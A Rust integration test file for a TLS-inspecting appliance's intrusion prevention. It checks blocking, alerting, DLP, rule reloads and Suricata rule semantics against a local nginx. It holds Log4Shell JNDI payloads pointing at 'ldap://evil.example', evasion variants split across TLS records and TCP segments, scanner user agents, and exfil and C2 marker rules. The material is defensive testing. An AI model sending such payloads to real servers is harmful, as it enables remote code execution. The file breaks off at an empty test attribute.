//! The IPS on decrypted traffic through the appliance: a Log4Shell request is blocked with a
//! block page naming the rule (and never reaches the server), passes with an alert in monitor
//! mode, and is caught when split across TLS records or TCP segments; the basic bundled rules on TLS
//! 1.2/1.3 and HTTP/1.1/2; levels; rule commands and reload under traffic; a blocked non-HTTP
//! flow; DLP; the whitelist.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a failed unwrap is a failed test")]

use anyhow::Result;
use tls_inspect_tests::tlsbed::Bed;
use tls_inspect_tests::{check, SERVER_IP};

const LOG4SHELL: &str = "/?q=$%7Bjndi:ldap://evil.example/a%7D";
const LOG4SHELL_RAW: &str = "/?q=${jndi:ldap://evil.example/a}";
/// The bundled rules that fire on it.
const LOG4SHELL_SIDS: [&str; 2] = ["9000001", "9000100"];

/// The TLS bed with nginx and `[ips] enabled = true` plus `settings`; the appliance CA's path.
fn ips_bed(settings: &str) -> Result<(Bed, String)> {
    let mut b = Bed::new(&format!("[ips]\nenabled = true\n{settings}"))?;
    b.nginx()?;
    let ca = b.ca.to_str().unwrap().to_string();
    Ok((b, ca))
}

fn alerts(b: &Bed) -> Vec<serde_json::Value> {
    b.eve().into_iter().filter(|r| r["event_type"] == "alert").collect()
}

/// Starts a bed with `rules` in a rule file of its own: `start` gets the file's path; the file
/// is gone once the appliance has read it, whether or not the start worked.
fn with_rule_file<T>(tag: &str, rules: &str, start: impl FnOnce(&std::path::Path) -> Result<T>) -> Result<T> {
    let path = std::env::temp_dir().join(format!("tls-inspect-{tag}-{}.rules", std::process::id()));
    std::fs::write(&path, rules)?;
    let started = start(&path);
    let _ = std::fs::remove_file(&path);
    started
}

#[test]
fn block_mode_answers_with_a_block_page_and_the_server_never_sees_it() -> Result<()> {
    let mut b = Bed::new_with("[ips]\nenabled = true\nmode = \"block\"\nlevel = \"strict\"", &["--metrics", "127.0.0.1:9100"])?;
    b.nginx()?;
    let ca = b.ca.to_str().unwrap().to_string();
    // curl sends the URI as given (-g: no URL globbing of the braces).
    let o = b.curl(&["--http1.1", "-g", "--path-as-is", "--cacert", &ca, &format!("https://server.test{LOG4SHELL_RAW}")]);
    let out = format!("{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
    assert!(out.contains("403 Forbidden") && out.contains("sid 9000001"), "{out}");
    // A clean request on the same appliance still works.
    let o = b.curl(&["--http1.1", "--cacert", &ca, "https://server.test/"]);
    assert!(String::from_utf8_lossy(&o.stdout).contains("hello from nginx"));
    // The alert names the rule, the action, the URL and the flow's policy and scope (two alerts
    // and the tls records of both flows).
    let records = b.wait_records(4)?;
    let a = records.iter().find(|r| r["event_type"] == "alert").expect("an alert record");
    assert_eq!(a["alert"]["signature_id"], 9000001);
    assert_eq!(a["alert"]["action"], "blocked");
    assert_eq!(a["http"]["url"], LOG4SHELL_RAW);
    assert_eq!(a["tls_inspect"]["policy_id"], 3);
    // The second rule that fired names its CVEs as Suricata's EVE does (reference.config).
    let b2 = records.iter().find(|r| r["event_type"] == "alert" && r["alert"]["signature_id"] == 9000100).expect("an alert of 9000100");
    assert_eq!(b2["alert"]["references"][0], "https://cve.mitre.org/cgi-bin/cvename.cgi?name=2021-44228", "{b2}");
    // nginx's access log never saw the blocked request.
    let access = std::fs::read_to_string(b.t.dir.join("nginx/access.log")).unwrap_or_default();
    assert!(!access.contains("jndi"), "the server received the blocked request: {access}");
    // Alerts per rule and action on the metrics endpoint.
    let metrics = check(b.t.appliance.cmd("curl").args(["-sS", "--max-time", "5", "http://127.0.0.1:9100/metrics"]))?;
    assert!(metrics.contains("tls_inspect_alerts_total{action=\"blocked\",sid=\"9000001\"} 1"), "{metrics}");
    Ok(())
}

#[test]
fn monitor_mode_lets_it_through_with_an_alert() -> Result<()> {
    let (b, ca) = ips_bed("mode = \"monitor\"")?;
    // Two requests on one keep-alive connection (curl reuses it for the second URL).
    let url = format!("https://server.test{LOG4SHELL}");
    let o = b.curl(&["--http1.1", "--cacert", &ca, &url, &url]);
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert_eq!(out.matches("hello from nginx").count(), 2, "{out}");
    b.wait_records(3)?;
    let a = alerts(&b);
    // Every rule that fires on it alerts (the bundled set has more than one Log4Shell rule),
    // once per request, as Suricata alerts per transaction.
    let of_9000001: Vec<_> = a.iter().filter(|r| r["alert"]["signature_id"] == 9000001).collect();
    assert_eq!(of_9000001.len(), 2, "{a:?}");
    assert_eq!(of_9000001[0]["flow_id"], of_9000001[1]["flow_id"], "one connection: {a:?}");
    assert!(a.iter().all(|r| r["alert"]["action"] == "allowed"), "{a:?}");
    Ok(())
}

/// Runs Python in the client namespace: a TCP socket `raw` (set up by `before_connect`) to the
/// server's 443, TLS over it as `s` (trusting the appliance's CA), `send`, then everything the
/// appliance answers until it closes, printed.
fn python_tls_exchange(b: &Bed, before_connect: &str, send: &str) -> Result<String> {
    let py = format!(
        "import socket, ssl\n\
         raw = socket.socket()\n\
         raw.settimeout(10)\n\
         {before_connect}\
         raw.connect(('{SERVER_IP}', 443))\n\
         ctx = ssl.create_default_context(cafile='{}')\n\
         s = ctx.wrap_socket(raw, server_hostname='server.test')\n\
         {send}\
         data = b''\n\
         while True:\n\
         \x20   try:\n\
         \x20       chunk = s.recv(4096)\n\
         \x20   except (ssl.SSLError, ConnectionResetError):\n\
         \x20       break\n\
         \x20   if not chunk: break\n\
         \x20   data += chunk\n\
         print(data.decode(errors='replace'))\n",
        b.ca.display()
    );
    check(b.t.client.cmd("python3").args(["-c", &py]))
}

/// Empty lines before a pipelined request (which nginx skips) do not hide it from the rules.
#[test]
fn a_request_behind_empty_lines_is_still_inspected() -> Result<()> {
    let (b, _) = ips_bed("mode = \"block\"")?;
    let out = python_tls_exchange(
        &b,
        "",
        "s.sendall(b'GET / HTTP/1.1\\r\\nHost: server.test\\r\\n\\r\\n\\r\\n\\r\\n\\nGET /?q=${jndi:ldap://x} HTTP/1.1\\r\\nHost: server.test\\r\\n\\r\\n')\n",
    )?;
    assert!(out.contains("403 Forbidden") && out.contains("sid 9000001"), "{out}");
    let access = std::fs::read_to_string(b.t.dir.join("nginx/access.log")).unwrap_or_default();
    assert!(!access.contains("jndi"), "the server received the blocked request: {access}");
    Ok(())
}

#[test]
fn a_pattern_split_across_tls_records_or_tcp_segments_is_caught() -> Result<()> {
    let (b, _) = ips_bed("mode = \"block\"")?;
    // Two TLS records, the pattern across them.
    let out = python_tls_exchange(
        &b,
        "",
        "s.sendall(b'GET /?q=${jn')\n\
         s.sendall(b'di:ldap://x} HTTP/1.1\\r\\nHost: server.test\\r\\n\\r\\n')\n",
    )?;
    assert!(out.contains("403 Forbidden") && out.contains("sid 9000001"), "{out}");

    // An empty line in a record of its own before the request (servers ignore it, and so does
    // the HTTP follower: it used to stop following the connection there).
    let out = python_tls_exchange(
        &b,
        "",
        "s.sendall(b'\\r\\n')\n\
         s.sendall(b'GET /?q=${jndi:ldap://x} HTTP/1.1\\r\\nHost: server.test\\r\\n\\r\\n')\n",
    )?;
    assert!(out.contains("403 Forbidden") && out.contains("sid 9000001"), "{out}");

    // One TLS record cut into TCP segments of 88 bytes (TCP_MAXSEG), the pattern past the
    // first segment: the userspace stack reassembles it before TLS and the IPS see it.
    let out = python_tls_exchange(
        &b,
        "raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 88)\n",
        "s.sendall(b'GET /' + b'a' * 150 + b'?q=${jndi:ldap://x} HTTP/1.1\\r\\nHost: server.test\\r\\n\\r\\n')\n\
         print(s.getsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG))\n",
    )?;
    let mss: u32 = out.split_whitespace().next().and_then(|m| m.parse().ok()).unwrap_or(0);
    assert!(mss > 0 && mss <= 88, "segments of at most 88 bytes: {out}");
    assert!(out.contains("403 Forbidden") && out.contains("sid 9000001"), "{out}");
    Ok(())
}

#[test]
fn each_level_blocks_what_its_confidence_allows() -> Result<()> {
    // (level, blocks high, blocks medium, blocks low): sid 9000001 is high confidence,
    // 9000020 (sqlmap) medium, 9000022 (Nuclei) low.
    for (level, expect) in [("loose", [true, false, false]), ("medium", [true, true, false]), ("strict", [true, true, true])] {
        let (b, ca) = ips_bed(&format!("mode = \"block\"\nlevel = \"{level}\""))?;
        let requests: [(&str, &str); 3] = [(LOG4SHELL_RAW, "Mozilla/5.0"), ("/", "sqlmap/1.7.2#stable"), ("/", "Nuclei - Open-source project")];
        for ((path, ua), blocks) in requests.iter().zip(expect) {
            let o = b.curl(&["--http1.1", "-g", "-A", ua, "--cacert", &ca, &format!("https://server.test{path}")]);
            let out = String::from_utf8_lossy(&o.stdout);
            let blocked = out.contains("403 Forbidden");
            assert!(blocked || out.contains("hello from nginx") || out.contains("404"), "{level} {ua}: {out}");
            assert_eq!(blocked, blocks, "level {level}, {path} with {ua}: {out}");
        }
    }
    Ok(())
}

#[test]
fn http2_requests_are_inspected_too() -> Result<()> {
    let (b, ca) = ips_bed("mode = \"block\"")?;
    // A clean HTTP/2 request passes ...
    let o = b.curl(&["--http2", "--cacert", &ca, "https://server.test/"]);
    let out = format!("{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
    assert!(out.contains("HTTP/2 200") && out.contains("hello from nginx"), "{out}");
    // ... a Log4Shell one gets the block page as an HTTP/2 response on its stream, with an alert.
    let o = b.curl(&["--http2", "-g", "--cacert", &ca, &format!("https://server.test{LOG4SHELL_RAW}")]);
    let out = format!("{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
    assert!(out.contains("HTTP/2 403") && out.contains("x-tls-inspect-sid: 9000001") && out.contains("sid 9000001"), "{out}");
    b.wait_records(3)?;
    let a = alerts(&b);
    assert_eq!(a[0]["alert"]["signature_id"], 9000001, "{a:?}");
    assert!(a.iter().all(|r| r["alert"]["action"] == "blocked" && r["http"]["url"] == LOG4SHELL_RAW), "{a:?}");
    let access = std::fs::read_to_string(b.t.dir.join("nginx/access.log")).unwrap_or_default();
    assert!(!access.contains("jndi"), "{access}");
    Ok(())
}

#[test]
fn a_card_number_in_a_post_body_raises_a_dlp_event_and_near_misses_do_not() -> Result<()> {
    let (b, ca) = ips_bed("mode = \"monitor\"")?;
    // Luhn-valid: reported (redacted); a 16-digit number failing Luhn: nothing.
    // To the bed's `/post/` proxy, which reads a body before it answers.
    b.curl(&["--http1.1", "--cacert", &ca, "--data", "card=4111 1111 1111 1111&name=x", "https://server.test/post/"]);
    b.curl(&["--http1.1", "--cacert", &ca, "--data", "order=4111111111111112", "https://server.test/post/"]);
    b.wait_records(2)?;
    std::thread::sleep(std::time::Duration::from_millis(300));
    let dlp: Vec<_> = b.eve().into_iter().filter(|r| r["event_type"] == "dlp").collect();
    assert_eq!(dlp.len(), 1, "{dlp:?}");
    assert_eq!(dlp[0]["tls_inspect"]["dlp"]["detector"], "payment_card");
    assert_eq!(dlp[0]["tls_inspect"]["dlp"]["sample"], "4111********1111");
    let raw = std::fs::read_to_string(&b.eve)?;
    assert!(!raw.contains("4111111111111111") && !raw.contains("4111 1111 1111 1111"), "the value itself never reaches the log");
    Ok(())
}

#[test]
fn whitelisted_sources_skip_the_ips() -> Result<()> {
    let (b, ca) = ips_bed("mode = \"block\"\nwhitelist = [\"198.18.0.1/32\"]")?;
    let o = b.curl(&["--http1.1", "-g", "--cacert", &ca, &format!("https://server.test{LOG4SHELL_RAW}")]);
    assert!(String::from_utf8_lossy(&o.stdout).contains("hello from nginx"), "{}", String::from_utf8_lossy(&o.stderr));
    b.wait_records(1)?;
    assert!(alerts(&b).is_empty());
    Ok(())
}

#[test]
fn rules_are_changed_and_reloaded_under_traffic() -> Result<()> {
    let local = std::env::temp_dir().join(format!("tls-inspect-local-{}.rules", std::process::id()));
    std::fs::write(&local, "")?;
    let (b, ca) = ips_bed(&format!("mode = \"block\"\nrules = [\"{}\"]", local.display()))?;
    let get = |b: &Bed, path: &str| {
        let o = b.curl(&["--http1.1", "-g", "--cacert", &ca, &format!("https://server.test{path}")]);
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    assert!(get(&b, LOG4SHELL_RAW).contains("403 Forbidden"));
    let list = check(b.t.cli().args(["rules", "list"]))?;
    assert!(list.contains("9000001") && list.contains("Log4Shell"), "{list}");

    // Two bundled rules stop this request: the plain and the obfuscated Log4Shell ones.
    for sid in LOG4SHELL_SIDS {
        check(b.t.cli().args(["rules", "disable", sid]))?;
    }
    assert!(get(&b, LOG4SHELL_RAW).contains("hello from nginx"), "disabled rules do not block");
    for sid in LOG4SHELL_SIDS {
        check(b.t.cli().args(["rules", "enable", sid]))?;
        check(b.t.cli().args(["rules", "action", sid, "alert"]))?;
    }
    assert!(get(&b, LOG4SHELL_RAW).contains("hello from nginx"), "alert-only rules do not block");
    check(b.t.cli().args(["rules", "reset"]))?;
    assert!(get(&b, LOG4SHELL_RAW).contains("403 Forbidden"), "reset restores the defaults");
    let out = tls_inspect_tests::run(b.t.cli().args(["rules", "disable", "424242"]))?;
    assert!(!out.status.success() && String::from_utf8_lossy(&out.stderr).contains("no such rule"));

    // Reload under traffic: a long inspected download keeps going while the databases are
    // swapped, and the new rule applies to new connections.
    let big = b.t.dir.join("nginx/www/big");
    let want = check(std::process::Command::new("sha256sum").arg(&big))?;
    let mut dl = b.t.client.sh(&format!(
        "curl -sS --limit-rate 10M --max-time 60 --http1.1 --connect-to ::198.18.0.2: --cacert {ca} https://server.test/big | sha256sum"
    ));
    dl.stdout(std::process::Stdio::piped());
    let child = dl.spawn()?;
    std::thread::sleep(std::time::Duration::from_millis(500));
    std::fs::write(&local, "reject http any any -> any any (msg:\"local canary\"; http.uri; content:\"/canary\"; sid:77; metadata: confidence high;)\n")?;
    let out = check(b.t.cli().args(["rules", "reload"]))?;
    assert!(out.starts_with("rules reloaded: "), "{out}");
    assert!(get(&b, "/canary").contains("403 Forbidden") && get(&b, "/canary").contains("sid 77"));
    let done = child.wait_with_output()?;
    assert_eq!(
        String::from_utf8_lossy(&done.stdout).split_whitespace().next(),
        want.split_whitespace().next(),
        "the download that was running during the reload completed intact"
    );
    let _ = std::fs::remove_file(&local);
    Ok(())
}

/// A sample of the bundled rules' (an exact HTTP/1.1 request) as curl sends it: (method,
/// target, user agent, body).
fn curl_form(sample: &str) -> (&str, &str, &str, &str) {
    let (head, body) = sample.split_once("\r\n\r\n").expect("a head");
    let mut lines = head.split("\r\n");
    let mut request_line = lines.next().unwrap_or("").split(' ');
    let (method, target) = (request_line.next().unwrap_or(""), request_line.next().unwrap_or(""));
    let ua = lines.find_map(|l| l.strip_prefix("User-Agent: ")).unwrap_or("");
    (method, target, ua, body)
}

/// The basic set of the bundled rules (9000001-9000023) on TLS 1.2 and 1.3, HTTP/1.1 and h2,
/// with curl: each positive sample fires its rule, each near miss does not (every bundled rule
/// over HTTP/1.1 in block mode is `vpatch.rs`).
#[test]
fn the_basic_bundled_rules_fire_through_the_appliance_on_tls12_tls13_h1_h2() -> Result<()> {
    let (b, ca) = ips_bed("mode = \"monitor\"\nlevel = \"strict\"")?;
    let samples = tls_inspect_tests::tlsbed::bundled_samples()?;
    let basic: Vec<(u32, &str, &str)> = samples["cases"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["sid"].as_u64().unwrap() as u32, c["positive"].as_str().unwrap(), c["near_miss"].as_str().unwrap()))
        .filter(|c| c.0 < 9000100)
        .collect();
    assert_eq!(basic.len(), 17);
    let combos: [(&str, &str, &str, &str, &str); 4] = [
        ("--tlsv1.2", "--tls-max", "1.2", "--http1.1", "TLS 1.2/http/1.1"),
        ("--tlsv1.2", "--tls-max", "1.2", "--http2", "TLS 1.2/h2"),
        ("--tlsv1.3", "--tls-max", "1.3", "--http1.1", "TLS 1.3/http/1.1"),
        ("--tlsv1.3", "--tls-max", "1.3", "--http2", "TLS 1.3/h2"),
    ];
    // (local port, sid, positive?, combo)
    let mut sent: Vec<(u64, u32, bool, &str)> = Vec::new();
    for &(min, maxflag, max, http, name) in &combos {
        for &(sid, pos, neg) in &basic {
            for (positive, (method, path, ua, body)) in [(true, curl_form(pos)), (false, curl_form(neg))] {
                // A body goes where nginx reads it before answering (the bed's `/post/` proxy):
                // answered first, curl stops sending it (over h2 it does when it is slower than
                // the response), and a body that never crossed the appliance cannot fire a rule.
                // The basic rules on bodies look at the body only.
                let url = if body.is_empty() { format!("https://server.test{path}") } else { format!("https://server.test/post{path}") };
                let mut args = vec![min, maxflag, max, http, "-g", "--path-as-is", "--cacert", &ca, "-o", "/dev/null", "-w", "%{local_port}", "-A", ua, "-X", method];
                if !body.is_empty() {
                    args.extend(["--data-binary", body]);
                }
                args.push(&url);
                let o = b.curl(&args);
                assert!(o.status.success(), "{name} sid {sid}: curl failed: {}", String::from_utf8_lossy(&o.stderr));
                let port: u64 = String::from_utf8_lossy(&o.stdout).trim().parse().unwrap_or_else(|_| {
                    panic!("{name} sid {sid}: curl failed: {}", String::from_utf8_lossy(&o.stderr))
                });
                sent.push((port, sid, positive, name));
            }
        }
    }
    // Every flow's record is written when it closes; alerts come with them.
    let flows = sent.len();
    tls_inspect_tests::wait_until("every flow record", std::time::Duration::from_secs(20), || {
        Ok(b.eve().iter().filter(|r| r["event_type"] == "tls").count() >= flows)
    })?;
    let eve = b.eve();
    let mut failures = Vec::new();
    // A client port can come back in a later request: each request takes the first flow record
    // of its port that no earlier request took (records are written as flows close, in order).
    let mut taken = std::collections::HashSet::new();
    for &(port, sid, positive, name) in &sent {
        let (at, flow) = eve
            .iter()
            .enumerate()
            .find(|(i, r)| r["event_type"] == "tls" && r["src_port"] == port && !taken.contains(i))
            .expect("a flow record per request");
        taken.insert(at);
        // The flow really was inspected with this version and protocol.
        let (version, alpn) = name.split_once('/').unwrap();
        let got = format!("{}/{}", flow["tls"]["version"].as_str().unwrap_or("?"), flow["tls_inspect"]["alpn"].as_str().unwrap_or("?"));
        assert_eq!(got, format!("{version}/{alpn}"), "{flow}");
        assert_eq!(flow["tls_inspect"]["decision"], "inspected", "{flow}");
        // An alert belongs to the flow whose record has its flow_id.
        let fired = eve.iter().any(|r| r["event_type"] == "alert" && r["flow_id"] == flow["flow_id"] && r["alert"]["signature_id"] == sid);
        if fired != positive {
            let related: Vec<&serde_json::Value> = eve.iter().filter(|r| r["flow_id"] == flow["flow_id"]).collect();
            failures.push(format!("{name} sid {sid}: {} sample {}: {related:?}", if positive { "positive" } else { "negative" }, if fired { "fired" } else { "missed" }));
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
    Ok(())
}

#[test]
fn a_blocked_non_http_flow_gets_a_tls_alert_and_the_server_never_sees_the_rest() -> Result<()> {
    let mut b = with_rule_file(
        "raw",
        "drop tcp any any -> any any (msg:\"raw exfil marker\"; flow:to_server; content:\"EXFIL-MARKER-77\"; sid:7700001;)\n\
         drop tcp any any -> any any (msg:\"raw c2 marker\"; flow:to_client; content:\"C2-BEACON-88\"; sid:7700002;)\n",
        |rules| Bed::new(&format!("[ips]\nenabled = true\nmode = \"block\"\nrules = [\"{}\"]", rules.display())),
    )?;
    // A line-based TLS server (not HTTP) on 8443 that writes what it received to a file and
    // answers "want-c2" with a C2 marker.
    let got = b.t.dir.join("received");
    let server = format!(
        "import socket, ssl\n\
         ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)\n\
         ctx.load_cert_chain('{}', '{}')\n\
         ls = socket.create_server(('{SERVER_IP}', 8443))\n\
         out = open('{}', 'ab', buffering=0)\n\
         while True:\n\
         \x20   c, _ = ls.accept()\n\
         \x20   try:\n\
         \x20       s = ctx.wrap_socket(c, server_side=True)\n\
         \x20       while True:\n\
         \x20           d = s.recv(4096)\n\
         \x20           if not d: break\n\
         \x20           out.write(d)\n\
         \x20           if b'want-c2' in d: s.sendall(b'C2-BEACON-88 sleep 60\\n')\n\
         \x20   except Exception as e:\n\
         \x20       out.write(('[' + type(e).__name__ + ']').encode())\n\
         \x20   c.close()\n",
        b.server.cert.display(),
        b.server.key.display(),
        got.display()
    );
    let mut c = b.t.server.cmd("python3");
    c.args(["-c", &server]);
    b.t.spawn(c)?;
    b.t.wait_listening(&b.t.server.clone(), 8443)?;
    // The client tells a clean close (close_notify: recv returns b'') from a bare TCP close.
    let client = |first: &str, second: &str| -> Result<String> {
        let py = format!(
            "import os, socket, ssl, time\n\
             ctx = ssl.create_default_context(cafile='{}')\n\
             s = ctx.wrap_socket(socket.create_connection(('{SERVER_IP}', 8443), timeout=10), server_hostname='server.test', suppress_ragged_eofs=False)\n\
             s.sendall(b'{first}')\n\
             s.sendall(b'{second}')\n\
             data = b''\n\
             try:\n\
             \x20   while True:\n\
             \x20       d = s.recv(4096)\n\
             \x20       if not d:\n\
             \x20           time.sleep(0.5)\n\
             \x20           try:\n\
             \x20               socket.socket(fileno=os.dup(s.fileno())).send(b'more')\n\
             \x20               tcp = 'open'\n\
             \x20           except (ssl.SSLError, OSError) as e:\n\
             \x20               tcp = type(e).__name__\n\
             \x20           print('close_notify', tcp, data)\n\
             \x20           break\n\
             \x20       data += d\n\
             except (ssl.SSLError, OSError) as e:\n\
             \x20   print('abrupt', type(e).__name__, data)\n",
            b.ca.display()
        );
        check(b.t.client.cmd("python3").args(["-c", &py]))
    };
    // Then the client's leg is reset: a later write fails.
    let out = client("hello\\n", "data EXFIL-MARKER-77\\n")?;
    assert!(out.starts_with("close_notify"), "the client got no TLS alert: {out}");
    assert!(out.contains("ConnectionResetError") || out.contains("BrokenPipeError"), "the client's leg was not reset: {out}");
    let out = client("want-c2\\n", "")?;
    assert!(out.starts_with("close_notify") && !out.contains("C2-BEACON"), "{out}");
    assert!(!out.contains(" open "), "the client's leg was not reset: {out}");
    let received = || std::fs::read_to_string(&got).unwrap_or_default();
    assert!(!received().contains("EXFIL-MARKER-77"), "the server received the blocked bytes: {}", received());
    assert!(received().contains("want-c2"), "{}", received());
    let records = b.wait_records(4)?;
    let mut sids: Vec<(u64, String)> = records
        .iter()
        .filter(|r| r["event_type"] == "alert")
        .map(|r| (r["alert"]["signature_id"].as_u64().unwrap_or(0), r["alert"]["action"].as_str().unwrap_or("").to_string()))
        .collect();
    sids.sort();
    assert_eq!(sids, vec![(7700001, "blocked".to_string()), (7700002, "blocked".to_string())], "{records:?}");
    Ok(())
}

#[test]
fn tls_sni_rules_match_the_client_hello_of_passed_flows_too() -> Result<()> {
    let rules = std::env::temp_dir().join(format!("tls-inspect-sni-{}.rules", std::process::id()));
    std::fs::write(&rules, "drop tls any any -> any any (msg:\"watched SNI\"; tls.sni; content:\"passthrough.test\"; sid:7800001;)\n")?;
    // passthrough.test is never decrypted (do-not-inspect host): only its ClientHello is seen.
    let bed = Bed::new(&format!(
        "do_not_inspect_hosts = [\"passthrough.test\"]\n[ips]\nenabled = true\nmode = \"block\"\nrules = [\"{}\"]",
        rules.display()
    ));
    let _ = std::fs::remove_file(&rules);
    let mut b = bed?;
    b.nginx()?;
    let root = b.pki.root.to_str().unwrap().to_string();
    let ca = b.ca.to_str().unwrap().to_string();
    let o = b.curl(&["--cacert", &root, "https://passthrough.test/"]);
    assert!(!o.status.success() && !String::from_utf8_lossy(&o.stdout).contains("hello from nginx"), "blocked on the SNI");
    let o = b.curl(&["--cacert", &ca, "https://server.test/"]);
    assert!(String::from_utf8_lossy(&o.stdout).contains("hello from nginx"), "another name is inspected as usual");
    let records = b.wait_records(3)?;
    let flow = records.iter().find(|r| r["event_type"] == "tls" && r["tls"]["sni"] == "passthrough.test").expect("the flow record");
    assert_eq!(flow["tls_inspect"]["reason"], "ips_sni", "{flow}");
    let alert = records.iter().find(|r| r["event_type"] == "alert").expect("an alert");
    assert_eq!(alert["alert"]["signature_id"], 7800001);
    assert_eq!(alert["alert"]["action"], "blocked");

    // As an alert-only rule, the passed flow goes through untouched (the server's own
    // certificate) and still raises the alert.
    check(b.t.cli().args(["rules", "action", "7800001", "alert"]))?;
    let o = b.curl(&["--cacert", &root, "https://passthrough.test/"]);
    assert!(String::from_utf8_lossy(&o.stdout).contains("hello from nginx"), "{}", String::from_utf8_lossy(&o.stderr));
    let records = b.wait_records(5)?;
    let alerts: Vec<_> = records.iter().filter(|r| r["event_type"] == "alert").collect();
    assert_eq!(alerts.len(), 2, "{alerts:?}");
    assert_eq!(alerts[1]["alert"]["action"], "allowed");
    assert!(records.iter().any(|r| r["tls_inspect"]["decision"] == "passed" && r["tls_inspect"]["reason"] == "do_not_inspect_host"));
    Ok(())
}

#[test]
fn actions_variables_and_classtypes_mean_what_they_mean_in_suricata() -> Result<()> {
    let rules = std::env::temp_dir().join(format!("tls-inspect-actions-{}.rules", std::process::id()));
    std::fs::write(
        &rules,
        "alert http $HOME_NET any -> $EXTERNAL_NET $HTTP_PORTS (msg:\"watched\"; flow:to_server; http.uri; content:\"watch-me\"; classtype:policy-violation; sid:7900001;)\n\
         drop http any any -> any any (msg:\"dropped\"; http.uri; content:\"drop-me\"; sid:7900002;)\n\
         reject http any any -> any any (msg:\"rejected\"; http.uri; content:\"reject-me\"; classtype:web-application-attack; priority:2; sid:7900003;)\n\
         pass http any any -> any any (msg:\"trusted agent\"; http.user_agent; content:\"trusted-updater\"; sid:7900004;)\n\
         reject http any any -> any any (msg:\"host\"; http.host; content:\"server.test\"; http.uri; content:\"host-me\"; sid:7900005;)\n\
         alert http $EXTERNAL_NET any -> any any (msg:\"never: the client is at home\"; http.uri; content:\"watch-me\"; sid:7900006;)\n",
    )?;
    // The client (198.18.0.1) is at home, the server (198.18.0.2) outside.
    let bed = ips_bed(&format!(
        "mode = \"block\"\ndefault_rules = false\nrules = [\"{}\"]\n[ips.vars]\nHOME_NET = \"[198.18.0.1]\"",
        rules.display()
    ));
    let _ = std::fs::remove_file(&rules);
    let (b, ca) = bed?;
    let get = |path: &str, extra: &[&str]| {
        let mut args = vec!["--http1.1", "--cacert", &ca];
        args.extend_from_slice(extra);
        let url = format!("https://server.test{path}");
        args.push(&url);
        let o = b.curl(&args);
        (o.status.success(), String::from_utf8_lossy(&o.stdout).into_owned())
    };
    // alert: the request goes through, with an alert; the rule for external clients is silent.
    let (ok, out) = get("/?watch-me", &[]);
    assert!(ok && out.contains("hello from nginx"), "{out}");
    // drop: the connection ends, no page.
    let (ok, out) = get("/?drop-me", &[]);
    assert!(!ok && !out.contains("hello from nginx") && !out.contains("403"), "{out}");
    // reject: the block page.
    let (_, out) = get("/?reject-me", &[]);
    assert!(out.contains("403 Forbidden") && out.contains("sid 7900003"), "{out}");
    // pass: the trusted agent's request is not matched at all, the drop rule included.
    let (ok, out) = get("/?drop-me", &["-A", "trusted-updater/1.0"]);
    assert!(ok && out.contains("hello from nginx"), "{out}");
    // http.host is the normalised host: case and port in the Host header do not evade it.
    let (_, out) = get("/?host-me", &["-H", "Host: SERVER.Test:443"]);
    assert!(out.contains("sid 7900005"), "{out}");

    // Five flows and four alerts.
    let records = b.wait_records(9)?;
    let alerts: Vec<_> = records.iter().filter(|r| r["event_type"] == "alert").collect();
    let got: Vec<(u64, &str)> = alerts.iter().map(|a| (a["alert"]["signature_id"].as_u64().unwrap_or(0), a["alert"]["action"].as_str().unwrap_or(""))).collect();
    assert_eq!(got, [(7900001, "allowed"), (7900002, "blocked"), (7900003, "blocked"), (7900005, "blocked")], "{alerts:?}");
    assert_eq!(alerts[0]["alert"]["category"], "Potential Corporate Privacy Violation");
    assert_eq!(alerts[0]["alert"]["severity"], 1, "the classtype's priority");
    assert_eq!(alerts[2]["alert"]["category"], "Web Application Attack");
    assert_eq!(alerts[2]["alert"]["severity"], 2, "the rule's own priority");
    Ok(())
}

#[test]
fn suricata_update_tuning_files_enable_and_drop_rules_and_reload_picks_them_up() -> Result<()> {
    let dir = std::env::temp_dir().join(format!("tls-inspect-tuning-{}", std::process::id()));
    std::fs::create_dir_all(&dir)?;
    let (rules, enable, drop) = (dir.join("emerging-web.rules"), dir.join("enable.conf"), dir.join("drop.conf"));
    std::fs::write(
        &rules,
        "alert http any any -> any any (msg:\"ET-style watched\"; http.uri; content:\"tuned-me\"; sid:2900001; rev:1;)\n\
         #alert http any any -> any any (msg:\"off upstream\"; http.uri; content:\"enable-me\"; sid:2900002; rev:1;)\n",
    )?;
    std::fs::write(&enable, "# enabled here\n2900002\n")?;
    std::fs::write(&drop, "")?;
    let bed = ips_bed(&format!(
        "mode = \"block\"\ndefault_rules = false\nrules = [\"{}\"]\nenable_conf = \"{}\"\ndrop_conf = \"{}\"",
        rules.display(),
        enable.display(),
        drop.display()
    ));
    let (b, ca) = bed?;
    let get = |path: &str| {
        let o = b.curl(&["--http1.1", "--cacert", &ca, &format!("https://server.test{path}")]);
        (o.status.success(), String::from_utf8_lossy(&o.stdout).into_owned())
    };
    // An ET rule alerts; the one commented out upstream is on through enable.conf.
    let (ok, out) = get("/?tuned-me");
    assert!(ok && out.contains("hello from nginx"), "{out}");
    let (ok, _) = get("/?enable-me");
    assert!(ok);
    // drop.conf makes it drop, from the next reload on.
    std::fs::write(&drop, "re:ET-style\n")?;
    check(b.t.cli().args(["rules", "reload"]))?;
    let (ok, out) = get("/?tuned-me");
    assert!(!ok && !out.contains("hello from nginx"), "{out}");
    let records = b.wait_records(6)?;
    let got: Vec<(u64, String)> = records
        .iter()
        .filter(|r| r["event_type"] == "alert")
        .map(|r| (r["alert"]["signature_id"].as_u64().unwrap_or(0), r["alert"]["action"].as_str().unwrap_or("").to_string()))
        .collect();
    assert_eq!(got, [(2900001, "allowed".to_string()), (2900002, "allowed".to_string()), (2900001, "blocked".to_string())]);
    let list = check(b.t.cli().args(["rules", "list", "--json"]))?;
    assert!(list.contains("\"drop\""), "{list}");
    let _ = std::fs::remove_dir_all(&dir);
    Ok(())
}

#[test]
